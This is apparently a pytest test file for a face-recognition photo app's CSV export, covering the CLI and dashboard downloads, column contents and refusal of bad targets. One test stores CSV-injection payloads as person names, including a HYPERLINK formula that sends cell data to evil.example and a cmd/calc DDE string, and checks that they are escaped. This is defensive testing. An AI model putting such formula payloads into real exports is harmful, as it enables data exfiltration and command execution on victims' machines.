"""The CSV export (`app.py export`, the dashboard's /export/faces.csv) of a real library: real photos, real model."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import dash
import pytest

from dashapp import export
from dashapp.server import create_app
from model.attributes import ATTRIBUTE_NAMES
from test_cli import app
from tests.conftest import ingest_album

ALBUM = ["obama_1.jpg", "obama_2.jpg", "biden_1.jpg", "obama_and_biden.jpg"]


@pytest.fixture(scope="module")
def library(tmp_path_factory, analyzer):
    """A small album ingested with the session model; Obama named, one Biden face put in unsorted by hand."""
    root = tmp_path_factory.mktemp("export")
    album, config, store = ingest_album(root, ALBUM, analyzer)
    obama = store.faces.of_photo(store.photos.by_path(album / "obama_1.jpg").id)[0]
    biden = store.faces.of_photo(store.photos.by_path(album / "biden_1.jpg").id)[0]
    person = store.people.move_faces_to_name([obama.id], "Barack Obama")
    store.people.move_faces([biden.id], None)
    store.photos.set_taken({obama.photo_id: "2009-01-20 12:00:00"})
    yield dict(root=root, album=album, config=config, store=store, obama=obama, biden=biden, person=person)
    store.close()


def _links(component) -> list[str]:
    """Every href in a Dash component tree."""
    if isinstance(component, (list, tuple)):
        return [href for c in component for href in _links(c)]
    found = [component.href] if getattr(component, "href", None) else []
    children = getattr(component, "children", None)
    return found + (_links(children) if children is not None and not isinstance(children, str) else [])


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_cli_writes_one_row_per_face_with_person_box_and_attributes(library):
    store, out = library["store"], library["root"] / "faces.csv"
    result = app("export", "--data-dir", str(library["config"].data_dir), str(out))
    assert result.returncode == 0, result.stderr[-2000:]
    rows = _rows(out.read_text(encoding="utf-8"))
    assert list(rows[0]) == list(export.COLUMNS) and list(export.COLUMNS[-40:]) == list(ATTRIBUTE_NAMES)
    assert result.stdout.strip() == f"{len(rows)} faces written to {out}"
    assert len(rows) == store.faces.count() >= len(ALBUM) + 1  # the pair photo has two faces
    by_id = {int(r["face_id"]): r for r in rows}

    obama = by_id[library["obama"].id]
    assert (obama["person"], int(obama["person_id"]), obama["assigned_by"]) == ("Barack Obama", library["person"], "you")
    assert Path(obama["photo"]) == library["album"] / "obama_1.jpg" and obama["face_number"] == "1"
    assert obama["taken"] == "2009-01-20 12:00:00" and by_id[library["biden"].id]["taken"] == ""
    box = [float(obama[k]) for k in ("x", "y", "width", "height")]
    assert box == pytest.approx(library["obama"].box, abs=0.06)
    assert float(obama["Male"]) > 0.5 and float(obama["Male"]) == pytest.approx(
        library["obama"].attributes[ATTRIBUTE_NAMES.index("Male")], abs=1e-3)

    biden = by_id[library["biden"].id]  # put in unsorted by hand: no person, but the user's choice
    assert (biden["person"], biden["person_id"], biden["assigned_by"]) == ("", "", "you")
    for row in rows:
        assert all(0.0 <= float(row[name]) <= 1.0 for name in ATTRIBUTE_NAMES)
        assert row["assigned_by"] in ("you", "clustering", "")
    pair = [r for r in rows if r["photo"].endswith("obama_and_biden.jpg")]
    assert len(pair) >= 2 and sorted(int(r["face_number"]) for r in pair) == list(range(1, len(pair) + 1))


def test_dashboard_download_is_the_same_csv(library):
    client = create_app(library["config"].data_dir).server.test_client()
    response = client.get(export.URL)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == f'attachment; filename="{export.FILENAME}"'
    assert response.get_data(as_text=True) == "".join(export.faces_csv(library["store"]))
    assert len(_rows(response.get_data(as_text=True))) == library["store"].faces.count()
    # Both pages that show faces' people and attributes link to it.
    pages = {page["path"]: page["layout"] for page in dash.page_registry.values()}
    for path in ("/photos", "/attributes"):
        layout = pages[path]() if callable(pages[path]) else pages[path]
        assert export.URL in _links(layout), path


def test_pieces_of_a_long_export_join_to_whole_rows(library):
    pieces = list(export._pieces(library["store"], rows_per_piece=2))
    assert sum(n for _, n in pieces) == library["store"].faces.count()
    assert all(text.endswith("\n") for text, _ in pieces if text)


def test_bad_targets_are_refused_clearly_and_nothing_is_written(library, tmp_path):
    data = str(library["config"].data_dir)
    folder = app("export", "--data-dir", data, str(tmp_path))
    assert folder.returncode == 2 and "is a folder" in folder.stderr
    missing = app("export", "--data-dir", data, str(tmp_path / "no" / "faces.csv"))
    assert missing.returncode == 2 and "no such folder" in missing.stderr
    no_library = app("export", "--data-dir", str(tmp_path / "nothing"), str(tmp_path / "faces.csv"))
    assert no_library.returncode == 2 and "no library" in no_library.stderr
    assert not (tmp_path / "nothing").exists() and not (tmp_path / "faces.csv").exists()


def test_stdout_export(library):
    result = app("export", "--data-dir", str(library["config"].data_dir), "-")
    assert result.returncode == 0
    assert result.stdout == "".join(export.faces_csv(library["store"]))


def test_a_name_that_would_be_a_spreadsheet_formula_is_exported_as_text(library, tmp_path):
    """CSV injection: a cell starting with = + - @ (or a tab or CR) runs as a formula in Excel and LibreOffice."""
    store = library["store"]
    names = ['=HYPERLINK("http://evil.example/?"&A2,"Click me")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-Ann"]
    faces = [f for f in store.faces.matrix().ids.tolist() if f != library["obama"].id][: len(names)]
    for face, name in zip(faces, names):
        store.people.move_faces_to_name([face], name)
    out = tmp_path / "faces.csv"
    export.write_faces_csv(store, out)
    cells = {int(r["face_id"]): r["person"] for r in _rows(out.read_text(encoding="utf-8"))}
    assert [cells[f] for f in faces] == ["'" + name for name in names]
    assert cells[library["obama"].id] == "Barack Obama"  # ordinary names as they are
    for face in faces:  # the library keeps its names as given
        store.people.move_faces([face], None)
